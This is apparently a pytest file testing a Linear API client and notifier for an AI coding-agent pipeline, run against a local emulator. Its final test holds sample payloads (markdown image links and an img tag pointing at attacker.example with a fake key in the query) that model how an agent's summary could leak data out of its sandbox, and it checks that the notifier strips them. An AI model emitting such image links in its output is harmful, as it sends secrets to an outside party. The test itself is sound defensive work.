"""LinearClient and LinearNotifier against the Linear GraphQL emulator on 127.0.0.1."""

from __future__ import annotations

import pytest

from adapters.linear import LinearClient, LinearError, stable_comment_id
from adapters.notifier.linear import STATUS_REF, LinearNotifier
from conveyor.config import LinearSettings
from conveyor.models import AgentOutcome, AgentRunResult, ChangeRequest, Identity, Notice, Origin, Stage
from tests.emulators.linear_api import LinearEmulator


@pytest.fixture()
def linear():
    emu = LinearEmulator().start()
    team = emu.add_team("ENG", "Engineering")
    other = emu.add_team("OPS")
    agent = emu.add_label("agent")
    bug = emu.add_label("Bug")
    ada = emu.add_user("Ada Lovelace")
    emu.fixtures = dict(team=team, other=other, agent=agent, bug=bug, ada=ada)  # type: ignore[attr-defined]
    yield emu
    emu.stop()


def client(emu: LinearEmulator, key: str | None = None) -> LinearClient:
    return LinearClient.from_settings(LinearSettings(api_key=key or emu.api_key, api_url=emu.url))


def test_agent_issues_filters_label_state_and_team(linear):
    f = linear.fixtures
    linear.add_issue(f["team"], "Fix flaky retry test", labels=[f["agent"]])
    linear.add_issue(f["team"], "Bump deps", labels=[f["agent"], f["bug"]], state_type="started")
    linear.add_issue(f["team"], "Already done", labels=[f["agent"]], state_type="completed")
    linear.add_issue(f["team"], "Not for agents", labels=[f["bug"]])
    linear.add_issue(f["other"], "Other team", labels=[f["agent"]])
    c = client(linear)
    eng = c.agent_issues(team="ENG")
    assert [line.split(" [")[0] for line in eng] == ["ENG-1 Fix flaky retry test", "ENG-2 Bump deps"]
    assert "[In Progress] https://linear.app/acme/issue/eng-2/" in eng[1]
    assert len(c.agent_issues()) == 3  # all teams
    assert c.agent_issues(team="ENG", label="AGENT") == eng  # label match ignores case
    assert linear.requests[-1]["auth"] == linear.api_key


def test_bad_key_and_server_errors(linear):
    with pytest.raises(LinearError, match="Authentication required") as info:
        client(linear, key="lin_api_wrong").agent_issues()
    assert not info.value.retryable
    linear.fail_next = [503]
    with pytest.raises(LinearError, match="503") as info:
        client(linear).agent_issues()
    assert info.value.retryable
    with pytest.raises(ValueError, match="LINEAR_API_KEY"):
        LinearClient("")


def test_issue_conversation(linear):
    f = linear.fixtures
    issue = linear.add_issue(f["team"], "Retry test flakes", "It fails 1 in 20 runs.", labels=[f["agent"]])
    linear.add_comment(issue, "Seen on main too", f["ada"])
    conv = client(linear).issue_conversation(issue["id"])
    assert conv == ["ENG-1 Retry test flakes\n\nIt fails 1 in 20 runs.", "ada: Seen on main too"]
    with pytest.raises(LinearError, match="Entity not found: Issue"):
        client(linear).issue_conversation("00000000-0000-0000-0000-000000000000")


def test_comment_is_idempotent_with_a_stable_id(linear):
    f = linear.fixtures
    issue = linear.add_issue(f["team"], "x")
    c = client(linear)
    cid = stable_comment_id("cv-1", "review")
    assert c.comment(issue["id"], "PR opened", cid) == cid
    assert c.comment(issue["id"], "PR opened", cid) == cid  # a retry: no second comment
    assert [x["body"] for x in linear.comments_on(issue)] == ["PR opened"]
    assert c.upsert_comment(issue["id"], stable_comment_id("cv-1", "status"), "one") == stable_comment_id("cv-1", "status")
    c.upsert_comment(issue["id"], stable_comment_id("cv-1", "status"), "two")
    assert [x["body"] for x in linear.comments_on(issue)] == ["PR opened", "two"]


def _notice(issue_id: str, kind: str, stage: Stage, **kw) -> Notice:
    return Notice(
        task_id="cv-0123456789ab", kind=kind, stage=stage, text=kw.pop("text", f"now {stage.value}"),
        requester=Identity(kind="linear", id="u1", display="Ada"),
        origin=Origin(source="linear", linear_issue_id=issue_id), repo="demo", **kw,
    )


def test_notifier_updates_one_status_comment_and_pings_with_the_pr(linear):
    f = linear.fixtures
    issue = linear.add_issue(f["team"], "Fix it", labels=[f["agent"]])
    notifier = LinearNotifier(client=client(linear))
    refs = notifier.notify(_notice(issue["id"], "accepted", Stage.received, text="task accepted"))
    assert set(refs) == {STATUS_REF}
    notifier.notify(_notice(issue["id"], "progress", Stage.running, refs=refs, text="agent running"))
    change = ChangeRequest(number=7, branch="conveyor/cv-0123456789ab", head_sha="a" * 40, base="main",
                           url="https://github.com/acme/demo/pull/7", files_changed=1, lines_added=3)
    run = AgentRunResult(outcome=AgentOutcome.ok, summary="## Why\nThe retry loop slept on the wrong clock.",
                         cost_usd=0.42, turns=12, duration_s=95, files_changed=1, lines_added=3)
    review = _notice(issue["id"], "review", Stage.awaiting_review, refs=refs, change=change, run=run,
                     text="ready for review", warnings=["AGENTS.md mentions paths that do not exist: old/"])
    notifier.notify(review)
    notifier.notify(review)  # activity retry
    bodies = [c["body"] for c in linear.comments_on(issue)]
    assert len(bodies) == 2, bodies
    status, ping = bodies
    assert "**awaiting review**" in status and "[#7](https://github.com/acme/demo/pull/7)" in status
    assert "12 turns, $0.42, 95s" in status and "old/" in status
    assert ping.startswith("Conveyor opened [PR #7](https://github.com/acme/demo/pull/7) for review.")
    assert "The retry loop slept on the wrong clock." in ping
    notifier.notify(_notice(issue["id"], "merged", Stage.merged, refs=refs, change=change, decided_by="bob", text="merged"))
    bodies = [c["body"] for c in linear.comments_on(issue)]
    assert len(bodies) == 3 and bodies[0].startswith("**Conveyor** task `cv-0123456789ab` on `demo`: **merged**")
    assert "merged by bob" in bodies[2]


def test_notifier_ignores_tasks_not_from_linear(linear):
    notifier = LinearNotifier(client=client(linear))
    assert notifier.notify(_notice("", "accepted", Stage.received)) == {}
    assert linear.requests == []


def test_agent_text_cannot_embed_images_in_linear_comments(linear):
    """An image in a comment is fetched by every viewer's client: an agent summary with
    `![](https://attacker/?k=...)` would carry data out of the sandbox."""
    notifier = LinearNotifier(client=client(linear))
    issue = linear.add_issue(linear.add_team("SEC"), "Leak test")
    change = ChangeRequest(number=8, branch="conveyor/cv-0123456789ab", head_sha="b" * 40, base="main",
                           url="https://github.com/acme/demo/pull/8", files_changed=1, lines_added=1)
    run = AgentRunResult(outcome=AgentOutcome.ok, summary="Done ![ok](https://attacker.example/p.png?k=AKIASECRET)",
                         files_changed=1, lines_added=1)
    notifier.notify(_notice(issue["id"], "review", Stage.awaiting_review, change=change, run=run,
                            text='failed: <img src="https://attacker.example/?k=2"> ![a][r]',
                            warnings=["![w](https://attacker.example/w)"]))
    bodies = [c["body"] for c in linear.comments_on(issue)]
    assert len(bodies) == 2 and any("attacker.example/p.png" in b for b in bodies)
    for body in bodies:
        assert "![" not in body and "<img" not in body.lower(), body
